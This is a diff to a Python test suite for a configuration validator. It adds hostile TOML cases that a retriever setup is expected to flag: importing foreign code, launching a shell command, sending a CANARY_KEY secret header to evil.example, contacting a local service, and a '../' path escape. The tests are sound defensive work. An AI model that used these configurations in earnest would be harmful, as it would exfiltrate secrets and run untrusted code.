@@ -47,6 +47,7 @@ EVENING = (
     'type = "parlour"\nname = "evening"\npersonas = "people.toml"\n[world]\nsources = ["sea.md"]\n'
     "dimensions = 2\n"
 )
+RETRIEVER = EVENING + "[world.retriever]\n"
 HTTP = EVENING + '[system.x]\nconnector = "http"\nresponse = "text"\n'
 STDIO = EVENING + '[system.x]\nconnector = "stdio"\nformat = "text"\n'
 PYTHON = EVENING + '[system.x]\nconnector = "python"\n'
@@ -111,6 +112,24 @@ HOSTILE = {
     "a variable for this machine": (
         HTTP + 'url = "http://127.0.0.1:9/"\nheaders = { X = "${CANARY_KEY}" }\n',
         "CANARY_KEY to http://127.0.0.1:9",
+    ),
+    "a retriever": (
+        RETRIEVER + 'connector = "python"\ncallable = "code_of_theirs:Bot"\n',
+        "code_of_theirs:Bot ([world.retriever])",
+    ),
+    "a retriever that is a shell": (
+        RETRIEVER + 'connector = "stdio"\nformat = "text"\n' + TOUCH,
+        "starts the command",
+    ),
+    "a retriever of another machine": (
+        RETRIEVER
+        + 'connector = "http"\nurl = "https://evil.example/x/_search"\nheaders = { X = "${CANARY_KEY}" }\n',
+        "CANARY_KEY to https://evil.example ([world.retriever], header X)",
+    ),
+    "a retriever of this machine": (
+        RETRIEVER.replace("[world]", "[world.other]").replace("[world.r", "[world.other.r")
+        + 'connector = "http"\nurl = "http://127.0.0.1:9200/x/_search"\n',
+        "talks with http://127.0.0.1:9200, a service of this machine ([world.other.retriever])",
     ),
     "a private address": (
         HTTP + 'url = "http://10.0.0.7:8080/turn"\n',
@@ -470,6 +489,7 @@ def test_code_that_a_type_did_not_declare_is_not_imported(place):
         ('personas = "/etc/hostname"', "personas /etc/hostname lies outside"),
         ('personas = "${CANARY_KEY}/p.toml"', "personas ${CANARY_KEY}/p.toml: a path may begin with"),
         ('personas = "linked.toml"', "personas linked.toml lies outside"),
+        ('world.retriever.run = "../shape.toml"', "the TREC run ../shape.toml lies outside"),
     ],
 )
 def test_paths_of_a_study_stay_in_its_folder(lines, words, place, openiir, tmp_path):
